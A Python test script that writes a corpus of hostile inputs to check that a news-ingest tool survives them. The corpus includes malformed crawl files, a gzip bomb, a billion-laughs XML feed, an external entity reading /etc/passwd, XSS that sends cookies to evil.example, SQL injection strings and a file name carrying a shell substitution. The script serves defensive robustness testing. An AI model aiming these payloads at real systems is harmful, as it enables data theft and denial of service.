"""Write a corpus of hostile inputs into a folder, for `newstally ingest` to survive.

Every file is made here, at run time, so nothing large or hostile is kept in git. Beside the
hostile files are a few good articles that must still be stored; `manifest.json` in the folder
names each file, says what it tries, and lists the titles of the good articles.

    python scripts/hostile_corpus.py /tmp/hostile          # the quick corpus (a few seconds)
    python scripts/hostile_corpus.py /tmp/hostile --slow   # also the inputs that take minutes
    newstally ingest /tmp/hostile --db /tmp/hostile.db     # exit 0 or 1, one line a failure

The slow inputs are a text just under the 1,000,000-character article limit and an article of
100,000 numbers: they test the per-article bounds, and take long to extract.
"""

from __future__ import annotations

import argparse
import gzip
import io
import json
import os
import sys
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

# The article limit (newstally.articles.MAX_TEXT_CHARS), copied so the script needs no install.
MAX_TEXT_CHARS = 1_000_000
# More entries than one feed is read for (newstally.ingest.feeds.MAX_FEED_ENTRIES = 5,000).
FEED_ENTRIES = 6_000

GOOD_TEXT = (
    "At least 14 people were killed and 30 injured when a bus left the road near Ostrava "
    "on Sunday, the regional police said. Rescue workers were still searching for two "
    "passengers late in the evening, a spokeswoman for the fire service told reporters."
)


@dataclass
class Corpus:
    """What was written: each file with what it tries, and the titles that must be stored."""

    folder: Path
    files: dict[str, str] = field(default_factory=dict)
    good_titles: list[str] = field(default_factory=list)
    skipped: dict[str, str] = field(default_factory=dict)

    def add(self, name: str, content: bytes | str, tries: str) -> Path:
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, str):
            content = content.encode("utf-8")
        path.write_bytes(content)
        self.files[name] = tries
        return path

    def good(self, title: str) -> None:
        self.good_titles.append(title)

    def manifest(self) -> dict[str, object]:
        return {"files": self.files, "good_titles": self.good_titles, "skipped": self.skipped}


def sidecar(**fields: object) -> str:
    return json.dumps(fields)


def good_articles(corpus: Corpus) -> None:
    corpus.add("good/bus-crash.txt", GOOD_TEXT, "a plain article with a sidecar: must be stored")
    corpus.add("good/bus-crash.meta.json", sidecar(
        title="Bus crash kills 14 near Ostrava", published="2024-05-12",
        url="https://courier.example/bus", outlet="Kesh Courier", authors=["Ada Lind"],
    ), "a good sidecar")
    corpus.good("Bus crash kills 14 near Ostrava")
    corpus.add("good/ferry.html", (
        "<html><head><title>Ferry fire injures 9</title></head><body><article><p>Nine people "
        "were injured when a fire broke out on a ferry near Kesh harbour on Tuesday, the coast "
        "guard said. All 212 passengers were brought ashore.</p></article></body></html>"
    ), "a good web page: must be stored")
    corpus.good("Ferry fire injures 9")
    corpus.add("good/courier.rss", (
        '<?xml version="1.0"?><rss version="2.0"><channel><title>Kesh Courier</title>'
        "<item><title>Lorry strikes bridge</title><description>Three people were injured when "
        "a lorry struck the Kesh bridge on Wednesday, police said.</description></item>"
        "</channel></rss>"
    ), "a good feed: its entry must be stored")
    corpus.good("Lorry strikes bridge")


def numbers_and_dates(corpus: Corpus) -> None:
    corpus.add("numbers/huge-digit-run.txt", (
        f"Officials said {'9' * 400} people were killed in the flood. Another "
        f"{'1' * 5000} were injured, and {'7' * 20},{'0' * 300} homes were lost."
    ), "numbers of hundreds and thousands of digits")
    corpus.add("numbers/reversed-ranges.txt", (
        "Between 50 and 10 people were injured in the clashes, medics said. From 900 to 12 "
        "homes were destroyed, and 40-4 soldiers were killed, the army said."
    ), "ranges written high to low")
    corpus.add("numbers/float-overflow.txt", (
        "The ministry said 1e400 people were displaced and 10^400 were injured; a later "
        "report put it at 1.5e308 million killed."
    ), "numbers past the range of a float")
    corpus.add("dates/out-of-calendar.txt", (
        "On 31 February 2024 at least 12 people were killed, police said. On 30/02/2024 "
        "and 2024-13-45 another 4 were injured. By the year 99999 and 0000-00-00, 3 more "
        "had died; on 32 December 1 BC, 7 were missing."
    ), "dates that are not in the calendar")
    corpus.add("dates/end-of-time.txt", (
        "Tomorrow, 5 people were killed; next year 8 were injured, and in ten thousand years "
        "20 will be missing, officials said on Monday."
    ), "relative dates from the last day a date can hold")
    corpus.add("dates/end-of-time.meta.json", sidecar(
        title="End of time", published="9999-12-31"), "published on 9999-12-31")
    corpus.add("dates/start-of-time.txt", (
        "Yesterday 6 people were killed, and last year 40 were injured, police said."
    ), "relative dates from the first day a date can hold")
    corpus.add("dates/start-of-time.meta.json", sidecar(
        title="Start of time", published="0001-01-01"), "published on 0001-01-01")


def sidecars(corpus: Corpus) -> None:
    text = "Two people were injured when a wall collapsed, the fire brigade said."
    cases: dict[str, tuple[str, str]] = {
        "deep-nesting": ('{"title": ' + "[" * 30_000 + "]" * 30_000 + "}",
                         "JSON nested 30,000 deep"),
        "huge-int": ('{"published": ' + "9" * 20_000 + "}", "an integer of 20,000 digits"),
        "huge-float": ('{"published": 1e999999}', "a float past infinity"),
        "over-64k": (sidecar(title="x" * 70_000), "a sidecar over its 64 kB limit"),
        "not-an-object": ("[1, 2, 3]", "a list, not an object"),
        "unknown-key": (sidecar(tittle="typo"), "an unknown key"),
        "bad-date": (sidecar(published="31/02/2024"), "a date that is not YYYY-MM-DD"),
        "wrong-types": ('{"title": 5, "authors": "one"}', "fields of the wrong type"),
        "invalid-utf8": (b"{\"title\": \"\xff\xfe\"}".decode("latin-1"), "not UTF-8"),
    }
    for name, (content, tries) in cases.items():
        corpus.add(f"sidecars/{name}.txt", text, f"the text beside a sidecar holding {tries}")
        data = content.encode("latin-1") if name == "invalid-utf8" else content.encode()
        corpus.add(f"sidecars/{name}.meta.json", data, tries)


def warc_record(url: str, http: bytes, *, length: int | None = None) -> bytes:
    header = (
        f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: {url}\r\n"
        "WARC-Date: 2024-06-07T09:15:00Z\r\n"
        f"WARC-Record-ID: <urn:uuid:{uuid.uuid5(uuid.NAMESPACE_URL, url)}>\r\n"
        "Content-Type: application/http; msgtype=response\r\n"
        f"Content-Length: {len(http) if length is None else length}\r\n\r\n"
    )
    return header.encode() + http + b"\r\n\r\n"


def page(title: str, text: str) -> bytes:
    return (f"<html><head><title>{title}</title></head><body><article><p>{text}</p>"
            "</article></body></html>").encode()


def http_ok(body: bytes) -> bytes:
    return b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + body


def crawls(corpus: Corpus) -> None:
    first = warc_record("https://courier.example/quake", http_ok(page(
        "Quake kills 8 in Valdoria",
        "Eight people were killed and 50 injured when an earthquake struck Valdoria on "
        "Friday, the interior ministry said.")))
    last = warc_record("https://courier.example/storm", http_ok(page(
        "Storm injures 11 on coast",
        "Eleven people were injured when a storm hit the coast on Saturday, the mayor said.")))
    corpus.good("Quake kills 8 in Valdoria")
    corpus.good("Storm injures 11 on coast")
    malformed = b"".join([
        warc_record("https://courier.example/a", b"HTTP/1.1 200 OK\r\nno colon here\r\n"
                    b"\r\n" + page("A", "One person was hurt.")),
        warc_record("https://courier.example/b", b"NOT-HTTP garbage\r\n\r\nbody"),
        warc_record("https://courier.example/c", b"HTTP/1.1 200 OK\r\n\r\n<html>no type</html>"),
        warc_record("https://courier.example/d", b"HTTP/1.1 abc\r\nContent-Type: text/html\r\n"
                    b"\r\n<html>odd status</html>"),
        # Content-Length says less than there is: the rest is misread as the next record
        warc_record("https://courier.example/f", http_ok(page("F", "Three hurt.")), length=40),
        b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: banana\r\n\r\n\r\n\r\n",
    ])
    # Content-Length says more than there is: the record runs to the end of the file
    too_long = warc_record("https://courier.example/e", http_ok(page("E", "Two hurt.")),
                           length=10**9)[:400]
    corpus.add("crawls/malformed-records.warc", first + malformed + last + too_long,
               "records with malformed WARC and HTTP headers between two good ones")
    flood = warc_record("https://courier.example/flood", http_ok(page(
        "Flood cuts off 3 villages", "Three villages were cut off and 200 people were "
        "evacuated when the river rose on Monday, the mayor said.")))
    corpus.good("Flood cuts off 3 villages")
    padding = b"X-Padding: " + b"a" * 60 + b"\r\n"
    corpus.add("crawls/endless-header.warc",
               flood + b"WARC/1.0\r\nWARC-Type: response\r\n" + padding * 40_000,
               "a record whose header section never ends (2.9 MB of header lines)")
    # A 'WARC/1.0' line every 100 bytes and no blank line: each is a record start to try.
    corpus.add("crawls/record-starts-only.warc",
               b"WARC/1.0\r\nWARC-Type: response\r\n" + (b"WARC/1.0\r\n" + padding) * 40_000,
               "40,000 record starts with no header section that ends")
    corpus.add("crawls/endless-line.warc.gz",
               gzip.compress(b"WARC/1.0\r\nWARC-Type: response\r\nX-Padding: " + b"b" * 8_000_000),
               "one header line of 8 MB with no end, gzipped")
    bomb = warc_record("https://courier.example/bomb", b"HTTP/1.1 200 OK\r\nContent-Type: "
                       b"text/html\r\n\r\n<html><body>" + b"\0" * 64_000_000 + b"</body></html>")
    corpus.add("crawls/inflates-to-64mb.warc.gz", gzip.compress(bomb, compresslevel=9),
               "a 64 MB response body that gzips to ~60 KB")
    corpus.add("crawls/not-a-crawl.warc", "Dear editor, this is a letter, not a crawl.\n",
               "prose named like a crawl")


def feeds(corpus: Corpus) -> None:
    # One text in every entry, so the run stays quick: entries after the first few are
    # skipped as already stored, before extraction.
    items = "".join(f"<item><title>Repeat {n}</title><description>Two people were hurt in a "
                    "fall, police said.</description></item>" for n in range(FEED_ENTRIES))
    corpus.add("feeds/many-entries.xml",
               f'<rss version="2.0"><channel><title>Big</title>{items}</channel></rss>',
               f"a feed of {FEED_ENTRIES:,} entries (all with one text)")
    corpus.add("feeds/empty-entries.xml", '<rss version="2.0"><channel><title>E</title>'
               + "<item><title>Nothing</title></item>" * 20 + "</channel></rss>",
               "entries without text")
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    corpus.add("feeds/billion-laughs.xml", (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "lol">{laughs}]>'
        '<rss version="2.0"><channel><title>L</title><item><title>Laughs</title>'
        "<description>&l9;</description></item></channel></rss>"
    ), "entities that expand to 3 GB")
    corpus.add("feeds/external-entity.xml", (
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
        '<rss version="2.0"><channel><title>X</title><item><title>Leak</title>'
        "<description>Two were hurt. &secret;</description></item></channel></rss>"
    ), "an external entity naming a local file")
    corpus.add("feeds/truncated.rss", (
        '<?xml version="1.0"?><rss version="2.0"><channel><title>T</title><item><title>Cut'
    ), "a feed cut off mid-entry")
    corpus.add("feeds/huge-entry.xml", (
        '<rss version="2.0"><channel><title>H</title><item><title>Huge</title><description>'
        + "Two people were hurt. " * 150_000 + "</description></item></channel></rss>"
    ), "one entry of 3.3 MB of text")


def markup(corpus: Corpus) -> None:
    script = "<script>alert('x')</script>"
    corpus.add("markup/script-title.html", (
        f"<html><head><title>{script}&lt;img src=x onerror=alert(1)&gt; Flood kills 3"
        f"</title></head><body><article><p>Three people were killed in a flood, "
        f"police said. {script}</p><p>&lt;iframe src=javascript:alert(2)&gt; Two more were "
        "injured.</p></article></body></html>"
    ), "script and escaped markup in a page's title and text")
    corpus.add("markup/injection.txt", (
        "<script>document.location='https://evil.example/'+document.cookie</script> Five "
        "people were injured, police said. \"><img src=x onerror=alert(1)> {{7*7}} ${7*7} "
        "'; DROP TABLE articles; -- [bold red]rich markup[/] \x1b[31mANSI red\x1b[0m"
    ), "script, template, SQL, Rich markup and ANSI escapes in the text")
    corpus.add("markup/injection.meta.json", sidecar(
        title="<script>alert('title')</script>\"><b>Bold</b> [red]x[/] \x1b[2J",
        outlet="<img src=x onerror=alert('outlet')>",
        url="javascript:alert('url')",
        authors=["<script>alert('author')</script>", "'; DROP TABLE articles; --"],
    ), "markup in every sidecar field")
    corpus.good("<script>alert('title')</script>\"><b>Bold</b> [red]x[/] \x1b[2J")
    corpus.add("markup/feed-injection.rss", (
        '<rss version="2.0"><channel><title>&lt;script&gt;alert(1)&lt;/script&gt;</title><item>'
        "<title>&lt;b onmouseover=alert(1)&gt;Crash&lt;/b&gt;</title><link>javascript:alert(1)"
        "</link><description>&lt;script&gt;alert(2)&lt;/script&gt;Four people were injured "
        "in a crash.</description></item></channel></rss>"
    ), "markup in a feed's titles, link and text")


def bytes_and_files(corpus: Corpus) -> None:
    corpus.add("bytes/nul-bytes.txt", b"Two people\x00 were killed.\x00\x00 Police said so.",
               "NUL bytes inside a text")
    corpus.add("bytes/invalid-utf8.txt",
               b"Three people were \xff\xfe injured \xc3\x28 when \xed\xa0\x80 a wall fell.",
               "bytes that are not UTF-8 in an otherwise English text")
    corpus.add("bytes/binary.txt", bytes(range(256)) * 40, "binary bytes named .txt")
    corpus.add("bytes/utf16.txt", "Six people were injured, police said.".encode("utf-16"),
               "UTF-16 with a byte order mark")
    corpus.add("bytes/control-chars.txt", "Four\x1b[2J people \x07\x08were hurt.\r\r\r",
               "terminal control characters")
    corpus.add("bytes/bidi.txt", "Two \u202eperson\u202c were \u200b\u200b\u200bhurt, police said.",
               "bidirectional overrides and zero-width spaces")
    corpus.add("files/empty.txt", b"", "a 0-byte file")
    corpus.add("files/blank.txt", " \n\t\n   \n", "only whitespace")
    corpus.add("files/deep-nesting.html", "<div>" * 100_000 + "Two hurt." + "</div>" * 100_000,
               "HTML nested 100,000 deep")
    odd = "files/odd [bold]name[red] $(echo x) ;'\" \u00fc\u202e\u0301 \\ %s %n.txt"
    corpus.add(odd, "Seven people were injured in a fire, officials said.",
               "a name with Rich markup, shell, quotes, format codes and a bidi override")
    newline = "files/new\nline.txt"
    try:
        corpus.add(newline, "Eight people were injured in a fire, officials said.",
                   "a name holding a newline")
    except OSError as exc:
        corpus.skipped[newline] = f"cannot be made here ({exc.strerror})"
    fifo = corpus.folder / "files/pipe.txt"
    if hasattr(os, "mkfifo"):
        os.mkfifo(fifo)
        corpus.files["files/pipe.txt"] = "a named pipe (FIFO) with no writer"
    else:
        corpus.skipped["files/pipe.txt"] = "no mkfifo on this platform"
    loop = corpus.folder / "files/loop.txt"
    try:
        loop.symlink_to(loop.name)
        corpus.files["files/loop.txt"] = "a symbolic link to itself"
    except OSError as exc:
        corpus.skipped["files/loop.txt"] = f"no symbolic links here ({exc.strerror})"
    (corpus.folder / "files/folder.txt").mkdir()
    corpus.files["files/folder.txt"] = "a folder named like a text"


def slow(corpus: Corpus) -> None:
    sentence = "Officials said 3 people were injured and 2 were killed in the blast on Monday. "
    corpus.add("slow/just-under-limit.txt",
               (sentence * (MAX_TEXT_CHARS // len(sentence)))[: MAX_TEXT_CHARS - 1],
               "a text one character under the article limit")
    corpus.add("slow/many-numbers.txt",
               " ".join(f"{n} people were hurt." for n in range(100_000))[: MAX_TEXT_CHARS - 1],
               "an article holding 100,000 numbers")


PARTS: tuple[Callable[[Corpus], None], ...] = (
    good_articles, numbers_and_dates, sidecars, crawls, feeds, markup, bytes_and_files,
)


def write_corpus(folder: Path, *, include_slow: bool = False) -> Corpus:
    """Write every hostile input (and the good articles) under `folder`, which must be empty."""
    folder.mkdir(parents=True, exist_ok=True)
    if any(folder.iterdir()):
        raise SystemExit(f"hostile_corpus: {folder} is not empty")
    corpus = Corpus(folder)
    for part in PARTS + ((slow,) if include_slow else ()):
        part(corpus)
    (folder / "manifest.json").write_text(json.dumps(corpus.manifest(), indent=1) + "\n")
    return corpus


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("folder", type=Path, help="an empty or new folder to write into")
    parser.add_argument("--slow", action="store_true",
                        help="also the inputs that take minutes to ingest")
    args = parser.parse_args(argv)
    corpus = write_corpus(args.folder, include_slow=args.slow)
    out = io.StringIO()
    out.write(f"wrote {len(corpus.files)} files into {corpus.folder}")
    if corpus.skipped:
        out.write(f" ({len(corpus.skipped)} skipped: {', '.join(sorted(corpus.skipped))})")
    print(out.getvalue())
    return 0


if __name__ == "__main__":
    sys.exit(main())
